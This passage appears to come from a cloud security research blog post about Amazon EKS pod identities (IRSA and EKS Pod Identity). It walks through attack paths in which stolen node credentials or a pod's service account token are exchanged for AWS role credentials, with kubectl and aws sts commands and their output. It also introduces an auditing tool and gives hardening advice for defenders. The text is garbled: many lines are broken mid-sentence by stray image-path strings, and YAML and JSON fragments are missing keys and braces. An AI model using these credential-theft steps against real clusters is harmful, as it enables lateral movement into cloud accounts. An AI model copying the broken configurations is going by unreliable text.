Then, we configure our workload. We start by annotating our webserver-sa service account with the Amazon Resource Name (ARN) of the role that ourworkload needs:

apiVersion: v1
kind: ServiceAccount
 name: webserver-sa
   eks.amazonaws.com/role-arn: arn:aws:iam::012345678901:role/webserver-role

Next,we run our workload under this service account. For the sake of example, we'll run a simple pod:

apiVersion: v1
kind: Pod
 name: webserver
 serviceAccountName: webserver-sa
 - image: amazon/aws-cli
   command: ["sleep", "infinity"]
   name: app

We can then observe that, within the pod, the AWS CLI (or any AWS SDK) is automatically able to retrieve credentials for the webserver-role:

$ kubectl exec -it webserver -- aws sts get-caller-identity
    "UserId": "AROAZ3MSJV4WZ4UVRRBZN:botocore-session-1682586057",
    "Account": "012345678901",
    "Arn": "arn:aws:sts::012345678901:assumed-role/webserver-role/botocore-session-1682586057"

Overall, this is a great experience—we did not have to handle distributing credentials manually, and all credentials are temporary and automatically rotated for us. But whathappened behind the scenes?

Behind the scenes of IRSA

When we created our pod, an in-cluster mutation admission webhook noticed that the pod was running under a service account we explicitly annotated and automatically added a few properties to our pod definition.

First, it added several environment variables so that the AWS CLI and SDKs know which role they need to assume:

    - name: AWS_ROLE_ARN
      value: arn:aws:iam::012345678901:role/webserver-role
      value: /var/run/secrets/eks.amazonaws.com/serviceaccount/token

Then, it injected a projected service account token into the pod filesystem:

  - name: aws-iam-token
      defaultMode: 420
      - serviceAccountToken:
          audience: sts.amazonaws.com
          expirationSeconds: 86400
          path: token

  - ...- mountPath: /var/run/secrets/eks.amazonaws.com/serviceaccount
      name: aws-iam-token
      readOnly: true

This service account token is simply a JWT with a custom audience, signed by the cluster's OIDC provider private key. We can retrieve it from inside the pod and easily decode it using a tool like jwt-cli:

$ JWT=$(kubectl exec -it webserver -- cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token)
$ jwt decode $JWT
Token claims
  "aud": ["sts.amazonaws.com"],
  "iss": "https://oidc.eks.eu-west-1.amazonaws.com/id/AF26D840E519D2F3902468224667D259",
  "sub": "system:serviceaccount:default:webserver-sa",

The AWS CLI / SDK then picked up this JWT and was able to exchange it for AWS credentials using sts:AssumeRoleWithWebIdentity. We can reproduce the process manually:aws sts assume-role-with-web-identity \
  --web-identity-token $JWT \
  --role-arn arn:aws:iam::012345678901:role/webserver-role \
  --role-session-name christophe

We get back:

  "Credentials": {
      "AccessKeyId": "ASIAZ3MSJV4W3NCHVIEQ",
      "SecretAccessKey":"A2GZWwvCcKED7429JfSGaTsNJbhila1VOr6ZYTQH",
      "SessionToken": "IQoJb<SNIP>",
      "Expiration": "2023-04-27T10:20:11+00:00"
  "SubjectFromWebIdentityToken": "system:serviceaccount:default:webserver-sa",
  "Audience": "sts.amazonaws.com",

In summary:

  • An in-cluster mutating admission controller handily added elements to our pod definition. Note that this is only an utility, and we could just have added them manually.
  • We exchanged our signed JWT for AWS credentials using sts:AssumeRoleWithWebIdentity

Overview of EKS Pod Identity, and how it differs from IRSA

EKS Pod Identity were introduced more recently, in November 2023. Although its implementation is similar to IRSA, it's easier to use as it doesn't require any in-cluster changes. Instead, you can manage which IAM roles pods running under a specific Kubernetes account should have access to, using eks:CreatePodIdentityAssociation:

aws eks create-pod-identity-association \
  --cluster-name your-cluster \
  --namespace microservices \
  --service-account pod-service-account \
  --role-arn arn:aws:iam::012345678901:role/PodRole

When you create new pods using this service account, an EKS admission controller injects two environment variables, AWS_CONTAINER_CREDENTIALS_FULL_URI and AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE. This causes the AWS SDKs and CLI to end up calling an internal API, passing it the same Kubernetes service account token as for IRSA. This internal APIthen takes care of performing the sts:AssumeRoleWithWebIdentity call for you.

😈 Pivoting to the cloud environment by stealing pod identities

In the previous section, we detailed how IRSA allows us to assign a cloud identity to our Kubernetes workloads. This lets us "bridge the gap" between the cluster and the cloud. However, this design also creates pivot points that allow an attacker to move laterally from a compromised workload to our cloud environment.

Compromising pod AWS roles from stolen node credentials

In a previous section, we demonstrated that an attacker could exploit SSRF vulnerabilities to compromise worker node credentials. We also showed that when authenticated as a node, we were able to create service account tokens for any pod running on the node whose credentials we compromised.

This means we're also able, as an attacker, to create service account tokens for any pod using IRSA and exchange these tokens for AWS credentials. Let's start from where we left off, authenticated as a worker node:

$ kubectl-whoami

Remember that the inventory-service pod runs under a specific service account:

$ kubectl get -n microservices pod/inventory-service -o jsonpath='{.spec.serviceAccountName}'

Let's create a service account token, with the required audience sts.amazonaws.com:

kubectl create token inventory-service-sa -n microservices \
  --audience=sts.amazonaws.com \
  --bound-object-kind=Pod \
  --bound-object-name=inventory-service \--bound-object-uid=67498d10-add3-4d7c-9b9e-65dab5640872 > token

We can then retrieve the ARN of the role that the pod is using and exchange the service account token for AWS credentials:

$ kubectl get -n microservices pod/inventory-service -o yaml | grep arn:
      value: arn:aws:iam::012345678901:role/inventory-service-role

$ aws sts assume-role-with-web-identity \
  --web-identity-token file://token \
  --role-arn arn:aws:iam::012345678901:role/inventory-service-role \
  --role-session-name hacked
    "Credentials": {
        "AccessKeyId": "ASIAZ3MSJV4W7Y4BR2LD",
        "SecretAccessKey": "9hx5+5LRDO5QOPe8bnshhsqHOUHhcAwYOGqra8u0","SessionToken": "IQ<SNIP>",
        "Expiration": "2023-04-27T11:30:36+00:00"
    "SubjectFromWebIdentityToken": "system:serviceaccount:microservices:inventory-service-sa",
    "Audience": "sts.amazonaws.com",

We get back AWS credentials for the inventory-service-role, and we can subsequently add these credentials to our environment and start leveraging them for lateral movement to the cloud environment.

Illustration of the attack pathIllustration of the attack path

Compromising pod AWS roles from stolen pod service account tokens

While the previous scenario can easily be achieved through the exploitation of an SSRF vulnerability, it's an attack spanning across several steps. But we can also leverage other application-level vulnerabilities to directly steal the pod service account token and, similarly, exchange it for AWS credentials.

Let's go back to our application that is vulnerable to command injection. (Note that the same attack would also work with a simple local file read vulnerability.)

First, we leak the ARN of the role that the application is using. We can do this by accessing environment variables or equivalently reading /proc/self/environ.

Leaking the AWS role used by the application
Leaking the AWS role used by the application

With this information in mind, we can now steal the service account token from the pod:

From here, we can follow the same process as before, using sts:AssumeRoleWithWebIdentity to retrieve AWS credentials for the IAM role vulnerable-application-role.

Illustration of the attack path
Illustration of the attack path

This approach works whether the pod is configured to use IRSA or has Pod Identity associations attached.

The risk of privileged Kubernetes cloud operators

In the last sections, we showcased two attack paths that allow an attacker to pivot from inside the Kubernetes cluster to the cloud environment through an IAM role attached to a pod. The level of access to the cloud environment that an attacker can achieve with these methods depends on the permissions attached to the role.Consequently, pods that can assume privileged IAM roles create a substantial risk. This is typically the case of operators, which developers frequently use in cloud environments to "bridge the gap" between the cluster and the cloud environment.

Examples of highly popular operators are:

The documentation of some of these operators outright uses AdministratorAccess:

Creating an IAM role for a Kubernetes account with the 'AdministratorAccess' policy attached
Creating an IAM role for a Kubernetes account with the 'AdministratorAccess' policy attached
eksctl configuration to create an IAM role for a Kubernetes service account with administrator privileges
eksctl configuration to create an IAM role for a Kubernetes service account with administrator privileges
An online tutorial instructing users to configure Crossplane with the AdministratorAccess AWS managed policy
An online tutorial instructing users to configure Crossplane with the AdministratorAccess AWS managed policy

This effectively makes the operator full administrator of the AWS account, and allows an attacker to pivot from an EKS cluster to being a full administrator of the cloud environment.In this section we presented two ways an attacker can pivot from an EKS cluster to an AWS environment: through stolen credentials of a worker node, or by compromising the service account token of a pod that can assume AWS roles. We also concluded that operators, albeit popular, can increase the "blast radius" of a compromised pod identity.

 Introducing MKAT: the Managed Kubernetes Auditing Toolkit

A few weeks ago at KubeCon EU 2023 we released MKAT: the Managed Kubernetes Auditing Toolkit, an all-in-one auditing toolkit for identifying common security issues in managed Kubernetes environments. Inparticular, MKAT allows you to:

  1. Identify trust relationships between Kubernetes service accounts and AWS IAM roles
  2. Find hardcoded AWS credentials in Kubernetes resources
  3. Test if pods can access the AWS IMDS

Let's have a look at how MKAT can help in practice. Running mkat eks find-role-relationships will analyze your Kubernetes service accounts and the trust policy of IAM roles in your AWS account, then output a summary of which Kubernetes workload can assume AWS roles. Note that MKAT takes into account both IRSA, and the more recent EKS Pod Identity mechanism.

MKAT is able to graph Kubernetes workloads that can assume IAM roles in your AWS account.
MKAT is able to graph Kubernetes workloads that can assume IAM roles in your AWS account.MKAT can also identify hardcodedAWS access keys in the definition of Kubernetes ConfigMaps, Secrets, and Pods, with minimal false positives.

MKAT identifies hardcoded AWS access keys in a Kubernetes secret.
MKAT identifies hardcoded AWS access keys in a Kubernetes secret.Finally, you can use MKAT to validate that you properly blocked pod access to the IMDS:

MKAT notifies that the AWS IMDS is not blocked and accessible from any pod in the cluster.
MKAT notifies that the AWS IMDS is not blocked and accessible from any pod in the cluster.

MKAT is a single binary that you can easily install from the releases page or through Homebrew:

brew tap datadog/mkat https://github.com/datadog/managed-kubernetes-auditing-toolkit
brew install datadog/mkat/managed-kubernetes-auditing-toolkit

mkat version

MKAT currently supports Amazon EKS. In the future, we intend to add support for Google Cloud GKE—stay tuned by watching out for new releases on GitHub, directly from the UI or using the associated RSS feed!

Key takeaways

 For defenders

  1. Block pod access to the IMDS cluster wide with a GlobalNetworkPolicy.
  2. Enforce IMDSv2 with a response hop limit to 1 on all your cluster worker nodes.
  3. Use "EKS Pod Identity" or "IAM roles for service accounts" to authenticate your Kubernetes workloads against AWS.
  4. Be mindful of AWS permissions you assign to cluster workloads, especially when using operators "bridging the gap" such as External Secrets or Crossplane.

😈 For pentesters and red teamers

The diagram below summarizes the attackpaths discussed in this post, allowing an attacker to pivot from exploiting application-level vulnerabilities to your AWS account through the EKS cluster.

Summary of the attack paths discussed in this post (click to enlarge).
Summary of the attack paths discussed in this post (click to enlarge).


